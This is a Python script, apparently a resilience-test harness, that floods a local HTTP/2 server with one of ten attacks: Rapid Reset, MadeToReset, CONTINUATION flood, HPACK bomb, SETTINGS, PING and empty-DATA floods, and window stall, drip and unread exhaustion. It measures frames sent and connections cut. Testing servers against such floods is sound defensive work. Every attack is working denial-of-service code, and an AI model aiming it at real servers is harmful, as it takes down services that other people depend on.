#!/usr/bin/env python3
"""One attacker over HTTP/2, at a rate of frames, for some seconds, whatever becomes of its connections.

    attack.py KIND PORT FRAMES_PER_SECOND SECONDS [tls]

Whoever is cut off comes back at once. Prints one line of JSON: frames sent, and how many a second that is, connections
made, and how often it was cut.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import struct
import sys
import time
from typing import Callable

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)
LARGEST = 2**31 - 1
TICKS_PER_SECOND = 100


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def setting(number: int, value: int) -> bytes:
    return struct.pack(">HI", number, value)


def literal(name: bytes, value: bytes) -> bytes:
    """A field line that leaves nothing in the table; both of fewer than 127 octets."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(stream: int, path: bytes, method: bytes = b"\x82", flags: int = END_HEADERS | END_STREAM) -> bytes:
    block = method + b"\x86" + literal(b":path", path) + literal(b":authority", b"a.example")
    return frame(HEADERS, flags, stream, block)


class Script:
    """What an attacker says: once on a new connection, and then frame after frame."""

    settings = b""
    # Whether it reads what is sent to it.
    reads = True

    def __init__(self) -> None:
        self.stream = -1

    def claim(self) -> int:
        self.stream += 2
        return self.stream

    def open(self) -> bytes:
        return b""

    def frames(self) -> tuple[bytes, int]:
        """The next octets, and how many frames they are."""
        raise NotImplementedError


class RapidReset(Script):
    """CVE-2023-44487: requests that are taken back at once."""

    def frames(self):
        stream = self.claim()
        return request(stream, b"/items/7") + frame(RST_STREAM, 0, stream, CANCEL), 2


class MadeToReset(Script):
    """CVE-2025-8671: requests that the server must reset, as their window grows beyond its limit."""

    def frames(self):
        stream = self.claim()
        return request(stream, b"/items/7") + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", LARGEST)), 2


class Continuation(Script):
    """VU#421644: a head that never ends."""

    line = frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 100))

    def open(self):
        return request(1, b"/items/7", flags=END_STREAM)

    def frames(self):
        return self.line, 1


class Bomb(Script):
    """Few octets that name a large entry of the table again and again."""

    def open(self):
        entry = b"\x40\x01x" + b"\x7f\xd1\x0e" + b"b" * 2000
        return frame(
            HEADERS, END_HEADERS | END_STREAM, self.claim(), b"\x82\x86\x84" + literal(b":authority", b"a.example") + entry)

    def frames(self):
        return frame(HEADERS, END_HEADERS | END_STREAM, self.claim(), b"\x82\x86\x84" + b"\xbe" * 1000), 1


class Repeated(Script):
    """The same frame again and again."""

    octets = b""

    def frames(self):
        return self.octets, 1


class SettingsFlood(Repeated):
    octets = frame(SETTINGS, payload=setting(4, 65535))


class PingFlood(Repeated):
    octets = frame(PING, payload=b"12345678")


class EmptyData(Repeated):
    """Content without an octet, and without an end."""

    octets = frame(DATA, 0, 1)

    def open(self):
        return request(self.claim(), b"/items", method=b"\x83", flags=END_HEADERS)


class Stall(Script):
    """Answers that nobody lets through: windows of nothing, and as many streams as there may be."""

    settings = setting(4, 0)

    def open(self):
        return b"".join(request(self.claim(), b"/1m") for _ in range(100))

    def frames(self):
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 1


class Drip(Script):
    """Windows that open by one octet at a time."""

    settings = setting(4, 0)
    turn = 0

    def open(self):
        return b"".join(request(self.claim(), b"/1m") for _ in range(100))

    def frames(self):
        self.turn = (self.turn + 1) % 100
        return frame(WINDOW_UPDATE, 0, self.turn * 2 + 1, struct.pack(">I", 1)), 1


class Unread(Script):
    """A client that asks for much, grants everything and reads nothing."""

    settings = setting(4, LARGEST)
    reads = False

    def open(self):
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65535)) + b"".join(
            request(self.claim(), b"/1m") for _ in range(100))

    def frames(self):
        return frame(PING, payload=b"12345678"), 1


KINDS: dict[str, Callable[[], Script]] = {
    "rapid-reset": RapidReset, "made-to-reset": MadeToReset, "continuation": Continuation, "hpack-bomb": Bomb,
    "settings": SettingsFlood, "ping": PingFlood, "empty-data": EmptyData, "stall": Stall, "drip": Drip,
    "unread": Unread,
}


class Attacker:
    def __init__(self, kind: str, port: int, secure: bool) -> None:
        self.kind, self.port, self.secure = kind, port, secure
        # Frames that the kernel has taken.
        self.sent = 0.0
        self.connections = self.cuts = 0
        self.connection: socket.socket | None = None
        self.script: Script = KINDS[kind]()

    def connect(self) -> None:
        connection = socket.create_connection(("127.0.0.1", self.port), 5)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.secure:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            connection = context.wrap_socket(connection, server_hostname="localhost")
        self.script = KINDS[self.kind]()
        self.connections += 1
        self.connection = connection
        connection.sendall(PREFACE + frame(SETTINGS, payload=self.script.settings) + self.script.open())
        connection.setblocking(False)

    def lose(self) -> None:
        if self.connection is not None:
            self.connection.close()
            self.connection = None
            self.cuts += 1

    def send(self, octets: bytes, frames: int, until: float) -> bool:
        """Sends all of it; false when there was no room before `until`, and the rest was cut off by that."""
        each = frames / len(octets)
        while octets:
            try:
                count = self.connection.send(octets)
                octets = octets[count:]
                self.sent += count * each
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                left = until - time.monotonic()
                if left <= 0:
                    return False
                if self.script.reads:
                    self.read()
                select.select([], [self.connection], [], min(left, 0.01))
        return True

    def read(self) -> None:
        try:
            while True:
                if not self.connection.recv(65536):
                    raise ConnectionResetError
        except (BlockingIOError, ssl.SSLWantReadError):
            return

    def tick(self, frames: int, until: float) -> None:
        """Sends so many frames, over as many connections as that takes."""
        sent = 0
        while sent < frames and time.monotonic() < until:
            try:
                if self.connection is None:
                    self.connect()
                octets, count = bytearray(), 0
                while sent + count < frames:
                    more, of = self.script.frames()
                    octets += more
                    count += of
                sent += count
                if not self.send(bytes(octets), count, until):
                    self.stuck()
                elif self.script.reads:
                    self.read()
            except OSError:
                self.lose()

    def stuck(self) -> None:
        """Half a frame is on its way: nothing else can follow on this connection."""
        if self.script.reads and self.connection is not None:
            self.connection.close()
            self.connection = None


def main() -> None:
    kind, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    attacker = Attacker(kind, port, "tls" in sys.argv[5:])
    began = time.monotonic()
    for tick in range(int(seconds * TICKS_PER_SECOND)):
        due = began + tick / TICKS_PER_SECOND
        time.sleep(max(0, due - time.monotonic()))
        attacker.tick(int(rate / TICKS_PER_SECOND), due + 1 / TICKS_PER_SECOND)
    rate = attacker.sent / (time.monotonic() - began)
    print(json.dumps({"frames": round(attacker.sent), "rate": rate, "connections": attacker.connections, "cuts": attacker.cuts}))


if __name__ == "__main__":
    main()
